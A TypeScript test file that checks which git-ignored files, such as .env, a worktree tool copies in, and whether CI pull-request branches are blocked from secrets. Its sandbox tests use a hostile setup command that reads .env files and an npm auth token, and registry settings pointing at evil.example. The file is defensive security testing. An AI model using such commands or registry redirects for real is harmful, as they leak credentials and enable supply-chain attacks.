import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { openRepo } from '../../src/git/repo.ts';
import { planProvision } from '../../src/run/provision.ts';
import { Lab, shell, spec } from '../helpers/repo.ts';
import { probe } from '../helpers/sandbox.ts';

let lab: Lab;
beforeEach(() => {
  lab = new Lab({ 'a.txt': 'a\n', '.gitignore': '.env*\n', '.worktreeinclude': '.env.local\n' });
  lab.write({ '.env.local': 'A=1\n', '.env': 'KEY=1\n' });
});
afterEach(() => lab.remove());

/** What a run at HEAD would be given of the ignored files. */
const given = async (env: Record<string, string> = {}): Promise<readonly string[]> => {
  const repo = await openRepo(lab.repo, { ...lab.env, ...env });
  return (await planProvision(repo, lab.git('rev-parse', 'HEAD'), undefined)).copies;
};

describe('.worktreeinclude', () => {
  it('of the default branch counts, there and on a branch that leaves it alone', async () => {
    expect(await given()).toEqual(['.env.local']);
    lab.git('switch', '-qc', 'feature');
    lab.write({ 'b.txt': 'b\n' });
    lab.commit('Feature');
    expect(await given()).toEqual(['.env.local']);
  });

  it("that is not committed is the user's own and counts", async () => {
    lab.write({ '.worktreeinclude': '.env\n' });
    expect(await given()).toEqual(['.env']);
  });

  it('that came with a branch hands nothing out', async () => {
    lab.git('switch', '-qc', 'feature');
    lab.write({ '.worktreeinclude': '.env*\n' });
    lab.commit('Wants more');
    expect(await given()).toEqual([]);
  });

  it('that came with a branch under another case of its name hands nothing out', async () => {
    lab.git('switch', '-qc', 'feature');
    lab.write({ '.WorktreeInclude': '.env*\n' });
    lab.commit('Wants more');
    expect(await given()).toEqual([]);
  });

  it('is compared with the default branch of the remote, whatever is called main here', async () => {
    lab.git('branch', '-m', 'trunk');
    lab.git('update-ref', 'refs/remotes/origin/trunk', 'HEAD');
    lab.git('symbolic-ref', 'refs/remotes/origin/HEAD', 'refs/remotes/origin/trunk');
    lab.git('switch', '-qc', 'main');
    lab.write({ '.worktreeinclude': '.env\n' });
    lab.commit('Wants more');
    expect(await given()).toEqual([]);
  });

  it('with no history in common with the default branch hands nothing out', async () => {
    lab.git('switch', '-q', '--orphan', 'other');
    lab.write({ '.gitignore': '.env*\n', '.worktreeinclude': '.env\n' });
    lab.commit('Another history');
    expect(await given()).toEqual([]);
  });

  it('that is a link hands nothing out: what it leads to is not compared', async () => {
    lab.write({ 'list.txt': '.env\n' });
    lab.git('rm', '-qf', '.worktreeinclude');
    lab.write({ '.worktreeinclude': 'link:list.txt' });
    lab.commit('A link');
    expect(await given()).toEqual([]);
  });

  it('counts for nothing in CI, where the checkout is whatever was pushed', async () => {
    expect(await given({ CI: 'true' })).toEqual([]);
  });

  it('counts where there is no default branch to compare with', async () => {
    lab.git('branch', '-m', 'only');
    expect(await given()).toEqual(['.env.local']);
  });
});

describe('what .worktreeinclude brings', () => {
  it('is known by what a link leads to, too', async () => {
    const shared = join(lab.folder, 'shared.env');
    lab.sh('rm .env.local');
    lab.write({ '.env.local': `link:${shared}` });
    const digest = async (content: string): Promise<string> => {
      writeFileSync(shared, content);
      return (await planProvision(await openRepo(lab.repo, lab.env), lab.git('rev-parse', 'HEAD'), undefined))
        .copiesDigest;
    };
    expect(await digest('A=1\n')).not.toBe(await digest('A=2\n'));
  });

  it('is in the key of a kept baseline: other content, another baseline', async () => {
    const count = join(lab.folder, 'count');
    const command = join(lab.folder, 'check.sh');
    writeFileSync(command, `grep -h A= .env.local >> '${count}'\n`);
    writeFileSync(
      join(lab.folder, 'spec.md'),
      spec(shell('echo b > a.txt'), { files: ['MODIFY a.txt'], verify: [`\`sh ${command}\``] }),
    );
    for (const content of ['A=1\n', 'A=1\n', 'A=2\n']) {
      lab.write({ '.env.local': content });
      expect((await lab.run(['run', '../spec.md'])).code).toBe(0);
    }
    // Once on the base and once on the change; the second run knows what the base says.
    expect(readFileSync(count, 'utf8')).toBe('A=1\nA=1\nA=1\nA=2\nA=2\n');
  });
});

describe.skipIf(!probe.works)("what a pull request's branch brings in CI (needs the sandbox)", () => {
  const bring = (files: Record<string, string>, setup: string): void => {
    lab.write({ '.npmrc': '//registry.example/:_authToken=SECRET\n' }, lab.home);
    lab.write(
      { 'profiles.toml': `[default]\n${setup}\n[theirs]\nsetup = 'echo theirs'\n` },
      join(lab.home, '.config', 'kimi-dispatch'),
    );
    lab.git('switch', '-qc', 'pull-request');
    lab.write({ 'greet.txt': 'hello\n', '.kimi-dispatch.toml': 'profile = "theirs"\n', ...files });
    lab.commit('A pull request');
    writeFileSync(join(lab.folder, 'spec.md'), spec('success'));
  };
  const run = () => lab.run(['run', '../spec.md'], { env: { CI: 'true', KIMI_DISPATCH_SANDBOX: '' } });
  const log = async (): Promise<string> => {
    const file = join((await lab.result()).files.folder, 'provision.log');
    return existsSync(file) ? readFileSync(file, 'utf8') : '';
  };

  it('hands out no ignored file, no registry token and no profile', async () => {
    bring({ '.worktreeinclude': '.env*\n' }, "setup = 'echo begun; cat .env .env.local ~/.npmrc; true'");
    expect((await run()).code).toBe(0);
    expect(await log()).toContain('begun');
    expect(await log()).not.toMatch(/KEY=1|A=1|SECRET|theirs/);
  });

  it('opens no registry by its own settings or lock file', async () => {
    const from = 'http://evil.example/dep/-/dep-1.0.0.tgz';
    const lock = {
      name: 'x',
      lockfileVersion: 3,
      packages: { '': { dependencies: { dep: '1.0.0' } }, 'node_modules/dep': { version: '1.0.0', resolved: from } },
    };
    const files = {
      '.npmrc': 'registry=http://evil.example/\nfetch-retries=0\n',
      '.yarnrc.yml': 'npmRegistryServer: "http://evil.example"\nunsafeHttpWhitelist: ["evil.example"]\n',
      'package.json': JSON.stringify({ name: 'x', dependencies: { dep: '1.0.0' } }),
      'package-lock.json': JSON.stringify(lock),
    };
    bring(files, '');
    const ended = await run();
    expect([ended.code, ended.stderr]).toEqual([2, expect.stringContaining('the sandbox refused evil.example:80')]);
  });
});

describe('what a checkout has and the worktree lacks', () => {
  it('is named by the first red baseline and by doctor, and not what a list brings or git made elsewhere', async () => {
    lab.write({ 'out.log': 'x\n', 'node_modules/x/index.js': '' });
    lab.write({ '.gitignore': '.env*\n*.log\nnode_modules/\n' });
    lab.commit('Ignore more');
    writeFileSync(
      join(lab.folder, 'spec.md'),
      spec(shell('echo b > a.txt'), { files: ['MODIFY a.txt'], verify: ['`grep -q KEY .env`'] }),
    );
    await lab.run(['run', '../spec.md']);
    const { notes } = await lab.result();
    const said = 'the checkout has .env, but the worktree does not; list what the checks need in .worktreeinclude';
    expect(notes).toContain(said);
    expect((await lab.run(['doctor'])).stdout).toContain(said);
  });
});
